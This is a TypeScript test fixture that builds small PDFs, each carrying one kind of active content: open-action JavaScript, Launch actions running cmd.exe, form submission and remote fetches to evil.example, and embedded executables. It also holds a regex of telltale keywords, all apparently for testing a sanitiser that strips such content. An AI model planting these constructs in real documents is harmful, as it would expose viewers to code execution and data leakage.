/** Invented PDFs with active content, for tests. */
import { deflateSync } from 'node:zlib'
import { decodePDFRawStream, PDFDocument, PDFName, PDFRawStream } from '@cantoo/pdf-lib'

interface PdfParts {
  /** Additional entries of the catalog and the page, and additional objects, which are numbered from 10. */
  readonly catalog?: string
  readonly page?: string
  readonly objects?: readonly string[]
  /** The text before and after the objects. */
  readonly before?: string
  readonly after?: string
}

const DRAWN = 'BT /F1 14 Tf 20 100 Td (Net pay 2,000.00) Tj ET'

/** Returns a PDF with one page that shows a line of text. */
export function pdfWith({ catalog = '', page = '', objects = [], before = '', after = '' }: PdfParts = {}): Buffer {
  const all = [
    `1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj`,
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
    `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>${page}>>endobj`,
    `4 0 obj<</Length ${DRAWN.length}>>stream\n${DRAWN}\nendstream endobj`,
    '5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj',
    ...objects.map((object, index) => `${10 + index} 0 obj${object}endobj`),
  ]
  return Buffer.from(`${before}%PDF-1.7\n${all.join('\n')}\ntrailer<</Root 1 0 R>>\n%%EOF\n${after}`, 'latin1')
}

/** A stream object with the given entries. */
export const stream = (entries: string, data: string): string =>
  `<<${entries}/Length ${Buffer.byteLength(data, 'latin1')}>>stream\n${data}\nendstream `

/** A stream object whose data is deflated as many times as given. */
export function deflated(entries: string, data: Buffer, times = 1): string {
  let bytes = data
  for (let n = 0; n < times; n++) bytes = deflateSync(bytes)
  const filters = Array.from({ length: times }, () => '/FlateDecode').join('')
  return stream(`${entries}/Filter[${filters}]`, bytes.toString('latin1'))
}

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const EMBEDDED = stream('/Type/EmbeddedFile', 'MZ evil')
const box = (entries: string) => `<</Type/Annot/Rect[10 10 90 40]${entries}>>`

/** PDFs with one kind of active content each, which the server accepts and cleans. */
export const ACTIVE_PDFS: Readonly<Record<string, Buffer>> = {
  'a script that runs on opening': pdfWith({ catalog: `/OpenAction${SCRIPT}` }),
  'a script in an indirect object': pdfWith({ catalog: '/OpenAction 10 0 R', objects: [SCRIPT] }),
  'a script whose names are escaped': pdfWith({ catalog: '/Open#41ction<</S/Java#53cript/J#53(1)>>' }),
  'a script in a stream': pdfWith({
    catalog: '/OpenAction<</S/JavaScript/JS 10 0 R>>',
    objects: [deflated('', Buffer.from('app.alert(1)'))],
  }),
  'a named script': pdfWith({ catalog: `/Names<</JavaScript<</Names[(a)${SCRIPT}]>>>>` }),
  'scripts of the document': pdfWith({ catalog: `/AA<</WC${SCRIPT}/WS${SCRIPT}>>` }),
  'scripts of the page': pdfWith({ page: `/AA<</O${SCRIPT}/C${SCRIPT}>>` }),
  'a chain of actions': pdfWith({ catalog: `/OpenAction<</S/Named/N/Print/Next[${SCRIPT}${SCRIPT}]>>` }),
  'a program to launch': pdfWith({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>' }),
  'a link to launch a program': pdfWith({ page: `/Annots[${box('/Subtype/Link/A<</S/Launch/F(calc.exe)>>')}]` }),
  'a web link': pdfWith({ page: `/Annots[${box('/Subtype/Link/A<</S/URI/URI(https://evil.example)>>')}]` }),
  'a remote destination': pdfWith({ catalog: '/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]>>' }),
  'an embedded destination': pdfWith({ catalog: '/OpenAction<</S/GoToE/T<</R/C/N(a)>>>>' }),
  'a form that submits itself': pdfWith({ catalog: '/OpenAction<</S/SubmitForm/F(https://evil.example)/Flags 4>>' }),
  'data to import': pdfWith({ catalog: '/OpenAction<</S/ImportData/F(a.fdf)>>' }),
  'a sound': pdfWith({ page: `/Annots[${box('/Subtype/Sound/Sound 10 0 R')}]`, objects: [stream('/R 8000', 'abc')] }),
  'a movie': pdfWith({ page: `/Annots[${box('/Subtype/Movie/Movie<</F(a.avi)>>/A true')}]` }),
  'a screen with a rendition': pdfWith({
    page: `/Annots[${box(`/Subtype/Screen/A<</S/Rendition/OP 4/JS(1)/R<</S/MR/C<</S/MCD/D<</F(a.swf)>>>>>>>>`)}]`,
  }),
  'rich media': pdfWith({
    page: `/Annots[${box('/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(a)10 0 R]>>>>')}]`,
    objects: ['<</Type/Filespec/F(a.swf)/EF<</F 11 0 R>>>>', EMBEDDED],
  }),
  'a 3D model': pdfWith({
    page: `/Annots[${box('/Subtype/3D/3DD 10 0 R')}]`,
    objects: [stream('/Type/3D/Subtype/U3D/OnInstantiate 11 0 R', 'U3D'), stream('', 'script')],
  }),
  'an embedded file': pdfWith({
    catalog: '/Names<</EmbeddedFiles<</Names[(a.exe)10 0 R]>>>>',
    objects: ['<</Type/Filespec/F(a.exe)/UF(a.exe)/EF<</F 11 0 R>>>>', EMBEDDED],
  }),
  'an attached file': pdfWith({
    page: `/Annots[${box('/Subtype/FileAttachment/FS 10 0 R')}]`,
    objects: ['<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>', EMBEDDED],
  }),
  'associated files': pdfWith({
    catalog: '/AF[10 0 R]',
    page: '/AF[10 0 R]',
    objects: ['<</Type/Filespec/F(a.xml)/AFRelationship/Data/EF<</F 11 0 R>>>>', EMBEDDED],
  }),
  'a portfolio': pdfWith({ catalog: '/Collection<</View/D>>/Names<</EmbeddedFiles<</Names[]>>>>' }),
  'an XFA form with pages of its own': pdfWith({
    catalog: '/AcroForm<</XFA 10 0 R/Fields[]>>',
    objects: [stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>x</script></xdp:xdp>')],
  }),
  'a field with scripts': pdfWith({
    catalog: '/AcroForm<</Fields[10 0 R]/CO[10 0 R]/NeedAppearances true>>',
    page: '/Annots[10 0 R]',
    objects: [`${box(`/Subtype/Widget/FT/Tx/T(a)/V(b)/DA(/Helv 10 Tf)/AA<</K${SCRIPT}/C${SCRIPT}>>`)}`],
  }),
  'a picture in another file': pdfWith({
    page: '/Contents[4 0 R 10 0 R]',
    objects: [stream('/F(\\\\\\\\evil.example\\\\a)/FFilter/FlateDecode', '')],
  }),
  'a page of another file': pdfWith({
    page: '/Resources<</XObject<</X 10 0 R>>>>',
    objects: [stream('/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Ref<</F(evil.pdf)/Page 0>>', '')],
  }),
  'a PostScript program': pdfWith({
    page: '/Resources<</XObject<</X 10 0 R>>>>',
    objects: [stream('/Type/XObject/Subtype/PS', '(%stdin) (r) file')],
  }),
  'a script in an outline': pdfWith({
    catalog: '/Outlines 10 0 R/PageMode/UseOutlines',
    objects: ['<</First 11 0 R/Last 11 0 R/Count 1>>', `<</Title(a)/Parent 10 0 R/A${SCRIPT}>>`],
  }),
  'a script behind an optional layer': pdfWith({
    catalog: `/OCProperties<</OCGs[10 0 R]/D<</ON[10 0 R]/AS[${SCRIPT}]>>>>`,
    objects: [`<</Type/OCG/Name(a)/Usage<</X${SCRIPT}>>>>`],
  }),
  'a script in the tags': pdfWith({
    catalog: '/StructTreeRoot 10 0 R/MarkInfo<</Marked true>>',
    objects: [
      '<</Type/StructTreeRoot/K 11 0 R>>',
      `<</Type/StructElem/S/P/P 10 0 R/Pg 12 0 R/AF[13 0 R]/A${SCRIPT}>>`,
      `<</Type/Page/AA<</O${SCRIPT}>>>>`,
      `<</Type/Filespec/F(a)/EF<</F 14 0 R>>>>`,
      EMBEDDED,
    ],
  }),
  'hidden data': pdfWith({ catalog: '/Metadata 10 0 R', objects: [stream('/Type/Metadata/Subtype/XML', '<secret/>')] }),
  'objects that no page needs': pdfWith({ objects: [SCRIPT, EMBEDDED] }),
  'an object that the parser skips': pdfWith({ catalog: '/OpenAction 10 0 R', objects: ['<</S/JavaScript/JS(1)>'] }),
  'a program after the end': pdfWith({ after: '<script>alert(1)</script>PK\u0003\u0004' }),
  'an earlier version with a script': Buffer.concat([
    pdfWith({ catalog: `/OpenAction${SCRIPT}` }),
    Buffer.from('1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ]),
}

/** Words that occur only in active content. A file whose objects contain none of them can't do anything by itself. */
export const ACTIVE_WORDS =
  /\/(JavaScript|JS|OpenAction|AA|Launch|URI|GoToR|GoToE|SubmitForm|ImportData|EmbeddedFile|Filespec|EF|XFA|AcroForm|RichMedia|3D|Sound|Movie|Rendition|Annots?|FFilter|Ref|PS|Metadata|AF|Outlines|Collection)\b|evil|secret|<script|cmd\.exe|MZ /

/** Returns the text of all objects of a PDF, including the contents of streams. */
export async function objectsIn(bytes: Uint8Array): Promise<string> {
  const { context } = await PDFDocument.load(bytes, { updateMetadata: false })
  const types = ['ObjStm', 'XRef'].map((type) => PDFName.of(type))
  return context
    .enumerateIndirectObjects()
    .filter(
      ([, one]) => !(one instanceof PDFRawStream) || !types.some((type) => one.dict.get(PDFName.of('Type')) === type),
    )
    .map(([, one]) => (one instanceof PDFRawStream ? `${one.dict}\n${decoded(one)}` : one.toString()))
    .join('\n')
}

function decoded(stream: PDFRawStream): string {
  try {
    return Buffer.from(decodePDFRawStream(stream).decode()).toString('latin1')
  } catch {
    // The stream can't be read, because it's a picture with a filter that this library can't decode, or its data is
    // broken.
    return ''
  }
}
